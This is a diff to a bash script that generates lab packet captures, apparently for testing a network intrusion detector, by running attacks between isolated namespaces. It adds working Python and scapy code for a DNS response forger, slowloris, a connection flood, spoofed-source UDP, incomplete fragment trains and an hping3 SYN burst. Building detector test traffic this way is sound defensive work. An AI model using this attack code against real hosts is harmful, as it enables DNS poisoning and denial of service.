@@ -37,7 +37,8 @@ RECIPES="land port_zero ipv4_header_anomalies invalid_source frag_tiny
   frag_overlap icmp_redirect icmp_big_echo ipv6_rh0 dns_wrong_port
   nmap_syn_scan nmap_xmas_scan arp_sweep arp_spoof benign_curl
   nmap_ack_scan nmap_maimon_scan nmap_ipproto_scan dns_hex_direct
-  dns_raw_udp53"
+  dns_raw_udp53 dns_spoof frag_train_incomplete slowloris mac_many_ips
+  conn_flood_completed syn_burst_short"
 ONLY=${ONLY:-}
 for r in $ONLY; do
   case " $(echo $RECIPES) " in
@@ -57,18 +58,21 @@ want() { # recipe...: true if any of them is selected
 # ---------------------------------------------------------------- tools
 need=(tcpdump:tcpdump ip:iproute2 ethtool:ethtool capinfos:wireshark-common
       timeout:coreutils)
-if want land port_zero; then need+=(hping3:hping3); fi
+if want land port_zero syn_burst_short; then need+=(hping3:hping3); fi
 if want nmap_syn_scan nmap_xmas_scan arp_sweep nmap_ack_scan nmap_maimon_scan \
         nmap_ipproto_scan; then need+=(nmap:nmap); fi
-if want icmp_big_echo; then need+=(ping:iputils-ping); fi
+if want icmp_big_echo frag_train_incomplete mac_many_ips; then
+  need+=(ping:iputils-ping)
+fi
 if want dns_wrong_port; then need+=(nc:netcat-openbsd); fi
-if want benign_curl; then need+=(curl:curl); fi
+if want benign_curl slowloris syn_burst_short; then need+=(curl:curl); fi
 missing=()
 for pair in "${need[@]}"; do
   command -v "${pair%%:*}" >/dev/null 2>&1 || missing+=("${pair#*:}")
 done
 if want ipv4_header_anomalies invalid_source frag_tiny frag_overlap \
-        icmp_redirect ipv6_rh0 dns_wrong_port arp_spoof; then
+        icmp_redirect ipv6_rh0 dns_wrong_port arp_spoof dns_spoof \
+        frag_train_incomplete mac_many_ips; then
   "$PY" -c 'import scapy.all' >/dev/null 2>&1 || missing+=(python3-scapy)
 fi
 if [ ${#missing[@]} -gt 0 ]; then
@@ -170,12 +174,13 @@ stop_sink() { # frees 10.77.0.2:53 for a recipe's own server (once)
 
 # scapy recipes, each sends explicit Ethernet frames out of nvlabA's veth
 cat >"$TMP/labsend.py" <<'EOF'
-import os, sys, time
+import os, random, sys, time
 import logging
 logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
 from scapy.all import (ARP, BOOTP, DHCP, DNS, DNSQR, ICMP, IP, IPv6, Raw, TCP,
                        UDP, Ether, ICMPv6EchoRequest, IPv6ExtHdrDestOpt,
-                       IPv6ExtHdrRouting, checksum, conf, mac2str, sendp)
+                       IPv6ExtHdrRouting, checksum, conf, fragment, mac2str,
+                       sendp)
 conf.verb = 0
 
 IFACE = os.environ["IFA"]
@@ -303,6 +308,47 @@ def arp_spoof():
     tx([Ether(dst=MAC_B, src=EVIL_MAC)
         / ARP(op=2, hwsrc=EVIL_MAC, psrc=A, hwdst=MAC_B, pdst=B)] * 3, gap=0.5)
 
+def frag_train_incomplete():
+    # control: one complete fragmented echo request (4,000 data bytes, id
+    # 0x7a00), cut by scapy's fragment() into 1480-byte pieces (B answers it)
+    ping = IP(src=A, dst=B, id=0x7a00) / ICMP(type=8, id=0x7a00, seq=1) / Raw(b"P" * 4000)
+    tx([eth() / f for f in fragment(ping, fragsize=1480)], gap=0.001)
+    time.sleep(1.5)
+    # 3 UDP datagrams of 8,000 data bytes (8,008-byte IP payload) to :9, ids
+    # 0x7a01-0x7a03, cut into 1480-byte fragments at offsets 0, 1480, ...,
+    # 5920 (all with MF); the last fragment (offset 7400, 608 bytes) is never sent
+    data = bytes(range(256)) * 31 + bytes(range(64))        # 8,000 bytes
+    for k in range(3):
+        ipid = 0x7a01 + k
+        udp = bytes(IP(src=A, dst=B) / UDP(sport=47001 + k, dport=9) / Raw(data))[20:]
+        f = []
+        for off in range(0, len(udp), 1480):
+            if off + 1480 >= len(udp):
+                break                                    # the missing last fragment
+            f.append(eth() / IP(src=A, dst=B, id=ipid, flags="MF", frag=off // 8, proto=17)
+                     / Raw(udp[off:off + 1480]))
+        tx(f, gap=0.001)
+        if k < 2:
+            time.sleep(1.5)
+
+def mac_many_ips():
+    # 400 UDP datagrams from nvlabA's own MAC, each from a different source in
+    # 10.77.1.0-10.77.254.255 (fixed seed), to 10.77.0.2:9999, 10 ms apart
+    rng = random.Random(4077)
+    srcs, seen = [], set()
+    while len(srcs) < 400:
+        ip = "10.77.%d.%d" % (rng.randint(1, 254), rng.randint(0, 255))
+        if ip not in seen:
+            seen.add(ip)
+            srcs.append(ip)
+    s = conf.L2socket(iface=IFACE)
+    t0 = time.time()
+    for i, src in enumerate(srcs):
+        s.send(eth() / IP(src=src, dst=B, id=rng.getrandbits(16))
+               / UDP(sport=rng.randint(32768, 60999), dport=9999) / Raw(b"nv%03d" % i))
+        time.sleep(max(0.0, t0 + (i + 1) * 0.01 - time.time()))
+    s.close()
+
 globals()[sys.argv[1]]()
 EOF
 # DNS tunnel recipes: plain python sockets and hand-built DNS messages (no
@@ -412,17 +458,295 @@ def raw_server():
 
 globals()[sys.argv[1]]()
 EOF
+# DNS answer race (dns_spoof): a slow python DNS server in nvlabB, a python
+# stub client in nvlabA and an off-path-style forger in nvlabB that watches
+# nvlabB0 with an AF_PACKET socket and answers some queries first (scapy).
+cat >"$TMP/dnsspoof.py" <<'EOF'
+import os, random, socket, struct, sys, time
+
+A, B = os.environ["IP_A"], os.environ["IP_B"]
+ZONE = {"www.example.lab": "10.77.0.80", "mail.example.lab": "10.77.0.25",
+        "api.example.lab": "10.77.0.81"}
+FORGED = "10.77.0.66"
+DELAY = 0.15                         # the real server answers 150 ms late
+DEADLINE = time.time() + 90
+
+def plan():
+    # (name, retransmitted, forged) per query, 1 s apart; ids and client
+    # ports are distinct and fixed (seeded), one socket per query
+    rows = [("www", 0, 0), ("mail", 0, 0), ("api", 1, 0), ("www", 0, 0), ("mail", 0, 0),
+            ("www", 0, 1), ("api", 0, 1), ("mail", 0, 1), ("www", 0, 1), ("api", 0, 1),
+            ("mail", 0, 0), ("www", 0, 0)]
+    rng = random.Random(0x5353)
+    ids = rng.sample(range(1, 65536), len(rows))
+    ports = rng.sample(range(32768, 61000), len(rows))
+    return [dict(seq=i + 1, name=n + ".example.lab", id=ids[i], port=ports[i], rexmit=r, forged=f)
+            for i, (n, r, f) in enumerate(rows)]
+
+def wire_name(name):
+    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+
+def query(q):
+    return struct.pack("!6H", q["id"], 0x0100, 1, 0, 0, 0) + wire_name(q["name"]) + struct.pack("!2H", 1, 1)
+
+def parse(msg):
+    # -> (id, qr, qname, end of question) for an uncompressed one-question message
+    if len(msg) < 17:
+        return None
+    i, labels = 12, []
+    while i < len(msg) and msg[i]:
+        labels.append(msg[i + 1:i + 1 + msg[i]].decode("ascii", "replace"))
+        i += 1 + msg[i]
+    if i + 5 > len(msg):
+        return None
+    return struct.unpack("!H", msg[:2])[0], msg[2] >> 7, ".".join(labels), i + 5
+
+def answer(q, addr):
+    # QR, AA, RD copied; the question echoed; one A record (TTL 300) or NXDOMAIN
+    qid, _, name, qend = parse(q)
+    rd = struct.unpack("!H", q[2:4])[0] & 0x0100
+    if addr is None:
+        return q[:2] + struct.pack("!5H", 0x8403 | rd, 1, 0, 0, 0) + q[12:qend]
+    return (q[:2] + struct.pack("!5H", 0x8400 | rd, 1, 1, 0, 0) + q[12:qend]
+            + struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(addr))
+
+def server():
+    n = int(sys.argv[2])
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((B, 53))
+    s.settimeout(1.0)
+    done = 0
+    while done < n and time.time() < DEADLINE:
+        try:
+            q, peer = s.recvfrom(65535)
+        except socket.timeout:
+            continue
+        p = parse(q)
+        if p is None or p[1]:
+            continue
+        time.sleep(DELAY)
+        s.sendto(answer(q, ZONE.get(p[2].lower())), peer)
+        done += 1
+    print("server: answered %d queries, each %.0f ms late" % (done, DELAY * 1000))
+
+def forger():
+    # reads every frame on nvlabB0; for each planned query id (first sight
+    # only) sends a forged answer at once: 10.77.0.2:53 -> the query's source
+    # port, same id and question, A = 10.77.0.66
+    import logging
+    logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
+    from scapy.all import IP, UDP, Ether, Raw
+    ifb, ready = sys.argv[2], sys.argv[3]
+    mac_a, mac_b = os.environ["MAC_A"], os.environ["MAC_B"]
+    todo = {q["id"]: q for q in plan() if q["forged"]}
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    s.bind((ifb, 0))
+    s.settimeout(1.0)
+    open(ready, "w").close()
+    rng = random.Random(0x66)
+    while todo and time.time() < DEADLINE:
+        try:
+            frame, addr = s.recvfrom(65535)
+        except socket.timeout:
+            continue
+        if addr[2] != 0 or frame[12:14] != b"\x08\x00":      # PACKET_HOST, IPv4 only
+            continue
+        ip = frame[14:]
+        ihl = (ip[0] & 15) * 4
+        if ip[9] != 17 or socket.inet_ntoa(ip[16:20]) != B or struct.unpack("!H", ip[6:8])[0] & 0x3fff:
+            continue
+        sport, dport = struct.unpack("!2H", ip[ihl:ihl + 4])
+        q = ip[ihl + 8:]
+        p = parse(q) if dport == 53 else None
+        if p is None or p[1] or p[0] not in todo:
+            continue
+        src = socket.inet_ntoa(ip[12:16])
+        f = (Ether(src=mac_b, dst=mac_a) / IP(src=B, dst=src, id=rng.getrandbits(16), flags="DF")
+             / UDP(sport=53, dport=sport) / Raw(answer(q, FORGED)))
+        s.send(bytes(f))
+        del todo[p[0]]
+        print("forger: id 0x%04x %s port %d -> %s" % (p[0], p[2], sport, FORGED))
+    print("forger: %d planned forgeries not sent" % len(todo))
+
+def client():
+    t0 = time.time()
+    for q in plan():
+        time.sleep(max(0.0, t0 + (q["seq"] - 1) * 1.0 - time.time()))
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.bind((A, q["port"]))
+        msg = query(q)
+        start = time.time()
+        s.sendto(msg, (B, 53))
+        if q["rexmit"]:                      # no answer yet: send it again
+            time.sleep(0.1)
+            s.sendto(msg, (B, 53))
+        got = []
+        end = time.time() + 0.6
+        while time.time() < end:
+            s.settimeout(max(0.01, end - time.time()))
+            try:
+                r = s.recv(65535)
+            except socket.timeout:
+                break
+            if r[:2] == msg[:2] and len(r) >= 4 and r[-4:] != msg[-4:]:
+                got.append("%s@%.0fms" % (socket.inet_ntoa(r[-4:]), (time.time() - start) * 1000))
+        s.close()
+        print("client: #%d %s id 0x%04x port %d%s: %s" % (q["seq"], q["name"], q["id"], q["port"],
+              " (sent twice)" if q["rexmit"] else "", " ".join(got) or "no answer"))
+
+globals()[sys.argv[1]]()
+EOF
+
+# TCP recipes (slowloris, conn_flood_completed, syn_burst_short): a threading
+# HTTP server, a selectors TCP server and python socket clients
+cat >"$TMP/tcplab.py" <<'EOF'
+import functools, os, random, resource, selectors, socket, struct, sys, threading, time
+
+A, B = os.environ["IP_A"], os.environ["IP_B"]
+
+def nofile(n=4096):
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < n:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (n, max(n, hard)))
+
+def httpd():
+    # python's ThreadingHTTPServer (as `python3 -m http.server`), accept
+    # backlog 1024, stops itself after <lifetime> s
+    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+    port, directory, lifetime = int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
+    nofile()
+    class Quiet(SimpleHTTPRequestHandler):
+        def log_message(self, *a):
+            pass
+    class Server(ThreadingHTTPServer):
+        request_queue_size = 1024
+        daemon_threads = True
+    srv = Server((B, port), functools.partial(Quiet, directory=directory))
+    threading.Timer(lifetime, srv.shutdown).start()
+    srv.serve_forever()
+
+def slowloris():
+    # n connections to B:80, each a partial GET (no blank line); every <every>
+    # s one more header line on each, <rounds> times; then close them all
+    n, every, rounds = int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
+    nofile()
+    rng = random.Random(80)
+    socks = []
+    for i in range(n):
+        try:
+            s = socket.create_connection((B, 80), timeout=5)
+            s.sendall(b"GET /?%d HTTP/1.1\r\nHost: x\r\n" % i)
+            socks.append(s)
+        except OSError as e:
+            print("slowloris: connection %d failed: %s" % (i, e))
+        time.sleep(0.01)
+    t0 = time.time()
+    print("slowloris: %d connections open" % len(socks))
+    for r in range(rounds):
+        time.sleep(max(0.0, t0 + (r + 1) * every - time.time()))
+        ok = 0
+        for s in socks:
+            try:
+                s.sendall(b"X-a: %d\r\n" % rng.randint(1, 5000))
+                ok += 1
+            except OSError:
+                pass
+        print("slowloris: round %d: %d sockets still open" % (r + 1, ok))
+    time.sleep(1.0)
+    for s in socks:
+        s.close()
+
+def conn_server():
+    # accepts (backlog 4096) and reads; answers "OK\n" to a HELLO line, closes
+    # on EOF or reset; stops after <lifetime> s
+    lifetime = float(sys.argv[2])
+    nofile()
+    sel = selectors.DefaultSelector()
+    ls = socket.socket()
+    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    ls.bind((B, 8080))
+    ls.listen(4096)
+    ls.setblocking(False)
+    sel.register(ls, selectors.EVENT_READ)
+    end, accepted = time.time() + lifetime, 0
+    while time.time() < end:
+        for key, _ in sel.select(0.5):
+            if key.fileobj is ls:
+                while True:
+                    try:
+                        c, _ = ls.accept()
+                    except BlockingIOError:
+                        break
+                    c.setblocking(False)
+                    sel.register(c, selectors.EVENT_READ)
+                    accepted += 1
+                continue
+            c = key.fileobj
+            try:
+                d = c.recv(4096)
+            except (BlockingIOError, InterruptedError):
+                continue
+            except OSError:
+                d = b""
+            if d.startswith(b"HELLO"):
+                try:
+                    c.sendall(b"OK\n")
+                except OSError:
+                    pass
+            if not d:
+                sel.unregister(c)
+                c.close()
+    print("conn_server: accepted %d connections" % accepted)
+
+def conn_ordinary():
+    # n ordinary connections to B:8080, <gap> s apart: HELLO, read OK, close
+    n, gap = int(sys.argv[2]), float(sys.argv[3])
+    t0, ok = time.time(), 0
+    for i in range(n):
+        time.sleep(max(0.0, t0 + i * gap - time.time()))
+        try:
+            with socket.create_connection((B, 8080), timeout=2) as s:
+                s.sendall(b"HELLO %d\n" % i)
+                ok += s.recv(16) == b"OK\n"
+        except OSError as e:
+            print("conn_ordinary: %d: %s" % (i, e))
+    print("conn_ordinary: %d/%d answered" % (ok, n))
+
+def conn_flood():
+    # <rate> completed connections per second for <secs> s: connect, send 10
+    # bytes, close; every second one (odd i) closes abortively (SO_LINGER 0: RST)
+    rate, secs = int(sys.argv[2]), int(sys.argv[3])
+    nofile()
+    t0, ok, rst = time.time(), 0, 0
+    for i in range(rate * secs):
+        time.sleep(max(0.0, t0 + i / rate - time.time()))
+        s = socket.socket()
+        s.settimeout(2)
+        try:
+            s.connect((B, 8080))
+            s.sendall(b"flood%04d\n" % i)
+            ok += 1
+            if i % 2:
+                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+                rst += 1
+        except OSError as e:
+            print("conn_flood: %d: %s" % (i, e))
+        s.close()
+    print("conn_flood: %d connections in %.2f s (%d closed with RST)" % (ok, time.time() - t0, rst))
+
+globals()[sys.argv[1]]()
+EOF
 export IFA MAC_A MAC_B IP_A IP_B IP6_A IP6_B
 scapy() { timeout 60 ip netns exec "$NSA" "$PY" "$TMP/labsend.py" "$1"; }
 
 # ---------------------------------------------------------------- capture
 mkdir -p "$OUT"
 CAP_PID=
-cap_start() { # name
-  local f="$OUT/$1.pcap" log="$TMP/$1.tcpdump.log"
+cap_start() { # name [snaplen [max packets]]  (defaults: 0 = whole frames, 2000)
+  local f="$OUT/$1.pcap" log="$TMP/$1.tcpdump.log" snap=${2:-0} max=${3:-2000}
   rm -f "$f"
   # -c bounds the file; the pid is tcpdump itself (ip netns exec execs it)
-  ip netns exec "$NSB" tcpdump -i "$IFB" -s 0 -n -U -Z root -c 2000 -w "$f" 2>"$log" &
+  ip netns exec "$NSB" tcpdump -i "$IFB" -s "$snap" -n -U -Z root -c "$max" -w "$f" 2>"$log" &
   CAP_PID=$!
   PIDS+=("$CAP_PID")
   for _ in $(seq 50); do grep -qs 'listening on' "$log" && break; sleep 0.1; done
@@ -435,7 +759,9 @@ cap_stop() { # wait for the last replies, then stop tcpdump by pid
   wait "$CAP_PID" 2>/dev/null || true
   echo "  $(basename "$OUT")/$CUR.pcap: $(capinfos -c -M "$OUT/$CUR.pcap" | awk '/Number of packets/ {print $NF}') packets" >&2
 }
-recipe() { CUR=$1; echo "make-lab-captures: $1" >&2; cap_start "$1"; }
+recipe() { # name [snaplen [max packets]]
+  CUR=$1; echo "make-lab-captures: $1" >&2; cap_start "$@"
+}
 
 sleep 2   # let interface bring-up settle before the first capture
 
@@ -622,6 +948,130 @@ if want dns_raw_udp53; then
   inA timeout 120 "$PY" "$TMP/dnstun.py" raw_client 80 0.1 >"$TMP/dns_raw_udp53.client.txt" 2>&1
   cap_stop
   dns_server_done dns_raw_udp53
+fi
+
+# 21-26: helpers for servers in nvlabB
+wait_listen() { # t|u port: wait (max 5 s) until something in nvlabB listens there
+  local i
+  for i in $(seq 50); do
+    inB ss -Hl"$1"n "sport = :$2" | grep -q . && return 0
+    sleep 0.1
+  done
+  echo "make-lab-captures: nothing listens on $1 port $2 in $NSB" >&2
+  exit 1
+}
+http_start() { # port lifetime: tcplab.py httpd (ThreadingHTTPServer) on 10.77.0.2
+  mkdir -p "$TMP/www"
+  printf 'netvigil lab\n' >"$TMP/www/index.html"
+  ip netns exec "$NSB" timeout $(($2 + 10)) "$PY" "$TMP/tcplab.py" httpd "$1" "$TMP/www" "$2" \
+    >"$TMP/httpd.$1.txt" 2>&1 &
+  HTTPD_PID=$!
+  PIDS+=("$HTTPD_PID")
+  wait_listen t "$1"
+}
+http_stop() { kill "$HTTPD_PID" 2>/dev/null || true; wait "$HTTPD_PID" 2>/dev/null || true; }
+curls() { # n gap: n ordinary GETs of http://10.77.0.2/ from nvlabA, gap s apart
+  local i
+  for i in $(seq "$1"); do
+    inA timeout 10 curl -s -o /dev/null --max-time 5 "http://$IP_B/" || true
+    sleep "$2"
+  done
+}
+
+# 21. DNS answer race: a python server on 10.77.0.2:53 answers A queries
+# correctly but 150 ms late; a forger in nvlabB (AF_PACKET socket on nvlabB0,
+# scapy-built frames) answers 5 of the 12 queries at once with A 10.77.0.66.
+# Queries 1-5 are a benign lead-in (query 3 is sent twice, same id and port,
+# and answered twice identically); 6-10 are forged; 11-12 are benign again.
+if want dns_spoof; then
+  stop_sink
+  ip netns exec "$NSB" timeout 120 "$PY" "$TMP/dnsspoof.py" server 13 >"$TMP/dns_spoof.server.txt" 2>&1 &
+  DNS_PID=$!
+  PIDS+=("$DNS_PID")
+  wait_listen u 53
+  rm -f "$TMP/forger.ready"
+  ip netns exec "$NSB" timeout 120 "$PY" "$TMP/dnsspoof.py" forger "$IFB" "$TMP/forger.ready" \
+    >"$TMP/dns_spoof.forger.txt" 2>&1 &
+  FORGER_PID=$!
+  PIDS+=("$FORGER_PID")
+  for _ in $(seq 200); do [ -e "$TMP/forger.ready" ] && break; sleep 0.1; done
+  [ -e "$TMP/forger.ready" ] || { cat "$TMP/dns_spoof.forger.txt" >&2; exit 1; }
+  recipe dns_spoof
+  inA timeout 60 "$PY" "$TMP/dnsspoof.py" client >"$TMP/dns_spoof.client.txt" 2>&1
+  cap_stop
+  for p in "$DNS_PID" "$FORGER_PID"; do kill "$p" 2>/dev/null || true; wait "$p" 2>/dev/null || true; done
+  sed 's/^/    /' "$TMP/dns_spoof.server.txt" "$TMP/dns_spoof.forger.txt" "$TMP/dns_spoof.client.txt" >&2
+fi
+
+# 22. incomplete fragment trains: a complete fragmented ping (control), then 3
+# UDP datagrams whose last fragment is never sent, then a 56-byte ping every
+# 5 s for 40 s so that packet time passes any 30 s reassembly timeout
+if want frag_train_incomplete; then
+  recipe frag_train_incomplete
+  scapy frag_train_incomplete
+  sleep 5
+  inA timeout 60 ping -n -c 8 -i 5 "$IP_B" >/dev/null || true
+  cap_stop
+fi
+
+# 23. slowloris against a threading HTTP server on 10.77.0.2:80: 10 ordinary
+# curls 2 s apart, then 250 partial requests kept open by one header line per
+# socket every 10 s (5 rounds), then all closed. 128-byte snap length.
+if want slowloris; then
+  http_start 80 200
+  recipe slowloris 128 20000
+  curls 10 2
+  inA timeout 150 "$PY" "$TMP/tcplab.py" slowloris 250 10 5 >"$TMP/slowloris.client.txt" 2>&1
+  sleep 2
+  cap_stop
+  http_stop
+  sed 's/^/    /' "$TMP/slowloris.client.txt" >&2
+fi
+
+# 24. one MAC, many IPv4 sources: 20 pings from 10.77.0.1, then 400 UDP
+# datagrams from 02:77:00:00:00:01 with 400 different sources in
+# 10.77.1.0-10.77.254.255 (scapy, 10 ms apart), then 5 more pings
+if want mac_many_ips; then
+  recipe mac_many_ips
+  inA timeout 60 ping -n -c 20 -i 1 "$IP_B" >/dev/null || true
+  scapy mac_many_ips
+  inA timeout 30 ping -n -c 5 -i 1 "$IP_B" >/dev/null || true
+  cap_stop
+fi
+
+# 25. flood of completed connections to a python TCP server on 10.77.0.2:8080:
+# 30 ordinary connections 1 s apart, then 250 connections/s for 4 s (connect,
+# 10 bytes, close; every second one with SO_LINGER 0, i.e. RST), then 5 more
+# ordinary ones. 128-byte snap length.
+if want conn_flood_completed; then
+  ip netns exec "$NSB" timeout 130 "$PY" "$TMP/tcplab.py" conn_server 120 >"$TMP/conn_flood.server.txt" 2>&1 &
+  CONN_PID=$!
+  PIDS+=("$CONN_PID")
+  wait_listen t 8080
+  recipe conn_flood_completed 128 20000
+  inA timeout 60 "$PY" "$TMP/tcplab.py" conn_ordinary 30 1 >"$TMP/conn_flood.client.txt" 2>&1
+  sleep 1
+  inA timeout 60 "$PY" "$TMP/tcplab.py" conn_flood 250 4 >>"$TMP/conn_flood.client.txt" 2>&1
+  sleep 1
+  inA timeout 30 "$PY" "$TMP/tcplab.py" conn_ordinary 5 1 >>"$TMP/conn_flood.client.txt" 2>&1
+  cap_stop
+  kill "$CONN_PID" 2>/dev/null || true
+  wait "$CONN_PID" 2>/dev/null || true
+  sed 's/^/    /' "$TMP/conn_flood.client.txt" >&2
+fi
+
+# 26. short SYN burst to an open port: 10 curls 1 s apart, then hping3 sends
+# 3,000 SYNs to 10.77.0.2:80 (B answers SYN-ACK, A's kernel RST), then 5 more
+# curls. 128-byte snap length.
+if want syn_burst_short; then
+  http_start 80 120
+  recipe syn_burst_short 128 20000
+  curls 10 1
+  inA timeout 30 hping3 -I "$IFA" -S -p 80 -c 3000 -i u100 "$IP_B" >"$TMP/hping3.txt" 2>&1 || true
+  curls 5 1
+  cap_stop
+  http_stop
+  tail -n 3 "$TMP/hping3.txt" | sed 's/^/    hping3: /' >&2
 fi
 
 echo "make-lab-captures: done; files in $OUT" >&2
